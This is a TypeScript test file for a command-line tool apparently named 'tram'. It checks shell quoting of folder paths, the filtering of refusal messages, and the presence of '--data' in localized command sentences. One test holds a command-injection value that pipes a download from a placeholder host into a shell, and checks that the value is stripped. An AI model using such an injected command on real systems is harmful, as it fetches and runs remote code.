import assert from 'node:assert/strict';
import { test } from 'node:test';
import { FINDINGS_EN } from '#core/finding-words-en.ts';
import { FINDINGS_VI } from '#core/finding-words-vi.ts';
import { REFUSALS_EN } from '#core/refusal-words-en.ts';
import { REFUSALS_VI } from '#core/refusal-words-vi.ts';
import { refusalSentence } from '#core/refusal-words.ts';
import { refusalSaid } from '#core/refusals.ts';
import type { CommandSpec } from './command-spec.ts';
import { placedIn, shellWord, withPlace } from './placed.ts';
import { COMMANDS } from './table.ts';
import { Values } from './values.ts';
import { wordsOf } from './words/words.ts';

test('a folder that was named is carried, as one word of a shell', () => {
  assert.equal(placedIn(new Values({}), {}).data, undefined);
  assert.equal(placedIn(new Values({ data: '/srv/tram' }), {}).data, '/srv/tram');
  assert.equal(placedIn(new Values({}), { TRAM_DATA: '/srv/trạm đồn' }).data, "'/srv/trạm đồn'");
  assert.equal(shellWord("/srv/nhà $HOME 'cũ'"), "'/srv/nhà $HOME '\\''cũ'\\'''");
});

test('where commands are typed says this machine, and no station that answers', () => {
  const said = refusalSaid({ code: 'station-restored', detail: { data: '/srv; curl http://x.example/a | sh #', home: '/x', folder: '/srv/tram' } });
  assert.deepEqual(said.detail, { folder: '/srv/tram' });
  assert.deepEqual(withPlace({ data: 'a; b', home: '/x', index: 3 }, { home: '/home/a/.tram' }), { index: 3, home: '/home/a/.tram' });
  assert.ok(!refusalSentence(said.code, withPlace(said.detail, { home: '/home/a/.tram' }), 'en').includes('curl'));
});

/** Not about the folder of whoever reads it: another station's, or one that is to be made. */
const ELSEWHERE = ['peer-behind', 'directory-unheard', 'identity-missing', 'backup-late', 'pages', 'keyring', 'commands', 'options', 'manual'];

test('every sentence that names a command for a station\'s folder carries the folder', () => {
  const named = Object.entries(COMMANDS as Record<string, CommandSpec<string>>).filter(([, { options }]) => options.includes('data')).map(([name]) => name);
  const command = new RegExp(`tram (?:${named.toSorted((one, other) => other.length - one.length).join('|')})(?![\\w-])(?! (?:key|list|verify)\\b)(?<after>[^;,.\\]]*)`, 'g');
  const bare = [...sentencesOf(FINDINGS_VI), ...sentencesOf(FINDINGS_EN), ...sentencesOf(REFUSALS_VI), ...sentencesOf(REFUSALS_EN), ...sentencesOf(wordsOf('vi')), ...sentencesOf(wordsOf('en'))]
    .filter(({ place }) => !place.some((one) => ELSEWHERE.includes(one)))
    .flatMap(({ place, text }) => [...text.matchAll(command)].filter(({ groups }) => !/--data/.test(groups!['after']!)).map(([found]) => `${place.join('.')}: ${found}`));
  assert.deepEqual(bare, []);
});

function sentencesOf(words: unknown, place: readonly string[] = []): { place: readonly string[]; text: string }[] {
  if (typeof words === 'string') return [{ place, text: words.replaceAll('[ --data {data}]', ' --data {data}') }];
  return Object.entries(words as object).flatMap(([name, one]) => sentencesOf(one, [...place, name]));
}
